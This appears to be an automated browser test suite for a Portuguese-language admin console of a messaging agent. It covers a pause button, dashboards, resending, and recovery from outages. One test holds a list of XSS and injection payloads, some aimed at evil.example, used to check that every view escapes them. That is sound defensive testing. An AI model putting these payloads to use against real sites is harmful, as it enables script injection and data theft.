/** The other pages of the console, the stop button, hostile words in every view, and what goes wrong while somebody looks. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DatabaseAway } from '../../src/db/failures.ts';
import { adminDone } from '../support/admin.ts';
import { atConsole, DESKTOP, isAccessible, PHONE, startBrowser } from '../support/browser.ts';
import { loggedIn } from '../support/console.ts';
import { INSTANCE, startSystem } from '../support/system.ts';

const PAGES = ['conversations?tab=all', 'numbers', 'health', 'costs', 'audit', 'users'];

test('H9 E9 the stop button is on every page: who stopped it, when and why, and the way on; each act is in the audit', async (t) => {
  const system = await startSystem(t, { workers: 0 });
  const browser = await startBrowser(t);
  const { page, errors } = await atConsole(system, browser, { email: 'ana@example.com', role: 'admin' });
  await page.getByText('Parar o agente').click();
  await page.getByLabel('Por quê').fill('preços errados');
  await page.getByRole('button', { name: 'Parar agora' }).click();
  const stopped = page.getByRole('alert').filter({ hasText: 'Tudo parado' });
  for (const path of PAGES) {
    await page.goto(`${system.url}/console/${path}`);
    assert.match((await stopped.textContent()) ?? '', /Tudo parado\s+desde\s+\S+\s+por\s+você: preços errados/, path);
  }
  assert.deepEqual(await system.query(`select pause_reason('default', '${INSTANCE}', 1, null) as paused`), [{ paused: 'all' }]);
  await page.goto(`${system.url}/console/audit`);
  await page.getByRole('cell', { name: 'parou', exact: true }).waitFor();
  await page.getByRole('button', { name: 'Retomar' }).click();
  await stopped.waitFor({ state: 'detached' });
  assert.deepEqual(
    await system.query(`select actor, action, details ->> 'reason' as why from audit_log where action in ('pause', 'resume') order by id`),
    [
      { actor: 'console:ana@example.com', action: 'pause', why: 'preços errados' },
      { actor: 'console:ana@example.com', action: 'resume', why: null },
    ],
  );
  assert.deepEqual(errors, []);
});

test('H9 O15 numbers, health and costs: what is used and left, what waits and why, what did not leave and is sent again; axe finds nothing', async (t) => {
  const system = await startSystem(t, { workers: 0 });
  const browser = await startBrowser(t);
  await system.query(
    `select enqueue_message(jsonb_build_object('instance', '${INSTANCE}', 'phone', '5511912345678', 'text', x, 'kind', 'notification')) from unnest(array['Sua consulta é amanhã', 'Não saiu']) x`,
  );
  await system.query(
    `update messages set reason = 'quiet_hours', due_at = now() + interval '1 hour', goes_at = now() + interval '1 hour' where text = 'Sua consulta é amanhã'`,
  );
  await system.query(`update messages set status = 'failed', reason = 'provider_error' where text = 'Não saiu'`);
  await system.query(
    `insert into daily_counts (tenant_id, day, counts) values ('default', (now() at time zone 'America/Sao_Paulo')::date - 1, '{"received": 40, "answered": 30, "handed_over": 2, "cost_usd": 1.5, "tokens": 9000, "reply_seconds_median": 4.2}')`,
  );
  for (const [index, viewport] of [DESKTOP, PHONE].entries()) {
    const { page, errors } = await atConsole(system, browser, { email: `ana${index}@example.com`, role: 'admin', viewport });
    for (const path of PAGES) {
      await page.goto(`${system.url}/console/${path}`);
      await isAccessible(page, `${path} at ${viewport.width}`);
    }
    await page.goto(`${system.url}/console/numbers`);
    await page.getByRole('row').filter({ hasText: 'está fora do horário de envio' }).filter({ hasText: 'não antes de' }).waitFor();
    await page.goto(`${system.url}/console/costs`);
    await page.getByRole('row').filter({ hasText: 'US$ 1,50' }).filter({ hasText: '4 s' }).waitFor();
    assert.deepEqual(errors, []);
  }
  const { page } = await atConsole(system, browser, { email: 'op@example.com' });
  await page.goto(`${system.url}/console/health`);
  page.once('dialog', (dialog) => void dialog.accept());
  await page.getByRole('button', { name: 'Enviar de novo' }).click();
  await page.getByRole('alert').filter({ hasText: 'voltou para a fila' }).waitFor();
  assert.deepEqual(await system.query(`select status from messages where text = 'Não saiu'`), [{ status: 'queued' }]);
  assert.equal((await page.goto(`${system.url}/console/audit`))?.status(), 403, 'an operator is no admin');
});

const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '"><img src=x onerror="window.hacked=1">',
  "' autofocus onfocus='window.hacked=1",
  '</textarea><script>window.hacked=1</script>',
  '</title><svg onload=window.hacked=1>',
  '<style>body{display:none}</style>',
  'javascript:window.hacked=1',
  '<a href="javascript:window.hacked=1">x</a>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<form action="https://evil.example"><input name=p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '${window.hacked=1}',
  '{{constructor.constructor("window.hacked=1")()}}',
  '<div hx-get="https://evil.example" hx-trigger="load">x</div>',
  '<div hx-on:load="window.hacked=1" data-ask="x">x</div>',
  '<button data-key="a" hx-post="/console/pause">x</button>',
  '<!-- --><script>window.hacked=1</script>',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '\u202Egnirts dettalf\u202C',
  '<template><script>window.hacked=1</script></template>',
  '<math><mtext></mtext><script>window.hacked=1</script></math>',
  "\\'; window.hacked=1; //",
  '<details open ontoggle=window.hacked=1>x</details>',
  '<object data="data:text/html,<script>parent.hacked=1</script>"></object>',
];

test('H9 a hundred hostile texts, as name, words, file name and quote, are shown as text in every view', async (t) => {
  const system = await startSystem(t, { workers: 0 });
  const browser = await startBrowser(t);
  const [number] = await system.query<{ id: string }>(`select id from instances`);
  for (const [index, text] of HOSTILE.entries())
    await system.query(
      `with k as (insert into contacts (tenant_id, name) values ('default', $1) returning id),
        a as (insert into contact_addresses (tenant_id, instance_id, contact_id, kind, address) select 'default', $2, id, 'pn', '55119800000' || $3 from k),
        c as (insert into conversations (tenant_id, instance_id, contact_id, jid, last_seq, controlled_by, escalation_reason)
          select 'default', $2, id, 'x', 1, 'human', $1 from k returning id),
        h as (insert into handoffs (tenant_id, conversation_id, reason, summary, suggestion, controls) select 'default', id, $1, $1, $1, true from c)
       insert into messages (tenant_id, instance_id, conversation_id, seq, direction, author, type, status, text, quoted_text, media, provider_at)
         select 'default', $2, id, 1, 'in', 'contact', 'document', 'handed_over', $1, $1, jsonb_build_object('fileName', $1::text), now() from c`,
      [text, number?.id, String(10 + index)],
    );
  await system.query(
    `insert into julia_status (status, motivo, alterado_via, scope, target) values ('pausado', $1, $1, 'instance', '${INSTANCE}')`,
    [HOSTILE[1]],
  );
  for (const text of HOSTILE) await system.query(`select record_audit('default', $1, $1, $1, jsonb_build_object('x', $1::text))`, [text]);
  const { page, errors } = await atConsole(system, browser, { email: 'ana@example.com', role: 'admin' });
  const conversations = await system.query<{ id: string; name: string }>(
    'select c.id, k.name from conversations c join contacts k on k.id = c.contact_id order by c.id',
  );
  const foreign: string[] = [];
  page.on(
    'request',
    (request) => !request.url().startsWith(system.url) && !request.url().startsWith('data:') && foreign.push(request.url()),
  );
  const isText = async (what: string): Promise<void> => {
    assert.equal(await page.evaluate('window.hacked'), undefined, what);
    const strange =
      'document.querySelectorAll("main script, main style, main iframe, main object, main base, main math, main svg, main img, main [onerror], main [onload], main [srcdoc]").length';
    assert.equal(await page.evaluate(strange), 0, what);
  };
  for (const path of [...PAGES, 'conversations', `conversations?q=${encodeURIComponent('"><img src=x onerror=1>')}`]) {
    await page.goto(`${system.url}/console/${path}`);
    await isText(path);
  }
  for (const { id, name } of conversations) {
    await page.goto(`${system.url}/console/conversations/${id}`);
    await isText(name);
    const shown = (await page.locator('.message .text').textContent()) ?? '';
    assert.equal(shown, name);
    assert.equal(await page.locator('.message blockquote').textContent(), name);
    assert.ok(((await page.locator('.message .kind').textContent()) ?? '').includes(name));
    await page.goto(`${system.url}/console/conversations/${id}/why`);
    await isText(`why ${name}`);
  }
  assert.deepEqual(foreign, []);
  assert.deepEqual(errors, []);
});

test('H9 a stream that drops says since when and comes back by itself; so does the database; a conversation erased meanwhile says so', async (t) => {
  const system = await startSystem(t);
  const browser = await startBrowser(t);
  const maria = system.simulator.addContact({ name: 'Maria', phone: '5511988887777' });
  system.simulator.script([{ text: 'Olá!' }]);
  system.simulator.inbound({ contactId: maria.id, text: 'Oi' });
  await system.until(async () => (await system.dump()).some((line) => line.startsWith('out agent')), 'an answer');
  const { page } = await atConsole(system, browser, { email: 'ana@example.com', role: 'admin' });
  await page.goto(`${system.url}/console/conversations/1`);
  await page.locator('.message.out').waitFor();
  await page.context().setOffline(true);
  // what is open is not cut by that, so it is cut here
  await page.evaluate('window.dispatchEvent(new Event("offline"))');
  await page
    .locator('#banner')
    .filter({ hasText: /Sem conexão ao vivo desde \d\d:\d\d/ })
    .waitFor();
  await page.context().setOffline(false);
  await page.locator('#banner').waitFor({ state: 'hidden' });

  await page.locator('#words').fill('ainda não enviei');
  await adminDone(system.ctx, 'erase-contact', { contact: 'contact:1', reason: 'pedido' });
  await page.getByRole('status').filter({ hasText: 'Tudo sobre este contato foi apagado' }).waitFor();
  assert.equal(await page.locator('.message').count(), 0);
});

test('H9 T7 while the database is away a page says so, and comes back by itself', async (t) => {
  const system = await startSystem(t, { workers: 0 });
  const person = await loggedIn(system, 'ana@example.com', { role: 'admin' });
  const browser = await startBrowser(t);
  const page = await browser.newPage();
  const [name = '', value = ''] = person.cookie().split('=');
  await page.context().addCookies([{ name, value, url: `${system.url}/console` }]);
  await page.goto(`${system.url}/console/numbers`);
  const real = { ...system.ctx.db };
  system.ctx.db.call = async (name) => {
    throw new DatabaseAway(name, 'of a test');
  };
  await page.goto(`${system.url}/console/numbers`);
  await page.getByRole('alert').filter({ hasText: 'O banco de dados não responde' }).waitFor();
  await isAccessible(page, 'the database is away');
  system.ctx.db.call = (name, args) => real.call(name, args);
  await page.getByRole('heading', { name: 'Números' }).waitFor();
});
